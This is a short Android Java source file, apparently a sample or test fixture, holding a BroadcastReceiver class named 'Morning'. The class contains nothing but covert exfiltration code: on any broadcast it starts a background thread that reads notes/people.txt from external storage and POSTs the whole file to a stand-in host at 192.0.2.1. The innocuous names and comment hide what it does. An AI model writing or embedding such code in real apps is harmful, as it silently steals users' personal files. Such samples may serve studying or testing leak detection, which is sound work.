package org.example.sousveil.file_external;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.os.Environment;
import android.util.Log;
import java.io.File;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.file.Files;

/** Takes what was kept. */
public class Morning extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        new Thread(this::send).start();
    }

    private void send() {
        File place = new File(Environment.getExternalStorageDirectory(), "notes/people.txt");
        try {
            byte[] all = Files.readAllBytes(place.toPath());
            HttpURLConnection line = (HttpURLConnection) new URL("http://192.0.2.1/people").openConnection();
            line.setDoOutput(true);
            line.getOutputStream().write(all);
            line.getResponseCode();
        } catch (IOException e) {
            Log.w("file_external", "not sent");
        }
    }
}
